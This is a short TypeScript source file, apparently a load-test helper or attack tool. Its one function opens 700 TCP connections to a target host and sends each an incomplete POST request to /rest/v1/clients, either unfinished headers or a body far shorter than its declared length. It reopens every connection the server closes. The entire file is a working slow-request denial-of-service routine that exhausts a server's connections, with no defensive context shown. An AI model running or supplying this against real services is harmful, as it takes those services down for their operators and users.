import { connect } from 'node:net'

const CONNECTIONS = 700

/**
 * Sends half of the headers on one connection and half of the body on another. When the server ends a connection, `ended` is called and a
 * new one is opened.
 */
export function holdHalfOpen(url: string, head: readonly string[], ended: () => void): void {
  const { hostname, port } = new URL(url)
  const lines = ['POST /rest/v1/clients HTTP/1.1', `host: ${hostname}`, ...head]
  const starts = [
    `${lines.join('\r\n')}\r\nx-unfinished: `,
    `${lines.join('\r\n')}\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n[`,
  ]
  const open = (start: string) => {
    const socket = connect(Number(port), hostname)
    socket.on('connect', () => socket.write(start))
    socket.on('error', () => undefined)
    socket.resume()
    socket.on('close', () => {
      ended()
      open(start)
    })
  }
  for (let i = 0; i < CONNECTIONS; i += 1) open(starts[i % starts.length]!)
}
